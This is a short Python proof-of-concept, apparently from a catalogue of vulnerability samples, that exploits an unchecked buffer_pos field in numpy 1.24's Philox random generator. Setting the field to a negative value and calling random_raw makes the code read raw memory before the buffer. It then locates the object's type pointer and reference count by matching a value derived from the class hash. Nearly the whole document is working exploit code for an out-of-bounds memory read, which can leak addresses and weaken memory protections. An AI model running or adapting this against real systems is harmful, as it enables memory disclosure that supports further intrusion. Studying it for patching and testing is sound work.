# source: numpy 1.24 numpy/random/_philox.pyx Philox.state setter (buffer_pos stored unchecked) and philox.h philox_next64 (if buffer_pos < 4: return buffer[buffer_pos++], true for any negative value)
# family: unchecked index in a bit generator's state (Philox buffer_pos)
# goal: out-of-bounds memory read of raw 64-bit words (no tempering) before Philox's buffer: the object's own header (found by its ob_type) and numpy's function pointers
import numpy as np

M64 = 0xFFFFFFFFFFFFFFFF
h = hash(np.random.Philox) & M64
type_addr = ((h << 4) | (h >> 60)) & M64

ph = np.random.Philox(0)
s = ph.state
n = 120
s["buffer_pos"] = -n
ph.state = s
q = [int(v) for v in ph.random_raw(n)]
print("object", repr(ph), "type at", hex(type_addr))
for i, v in enumerate(q):
    if v == type_addr:
        print("read ob_type", hex(v), "at buffer[%d]; ob_refcnt before it =" % (-n + i), q[i - 1])
        break
print("raw words before buffer[0]:", [hex(v) for v in q[-12:]])
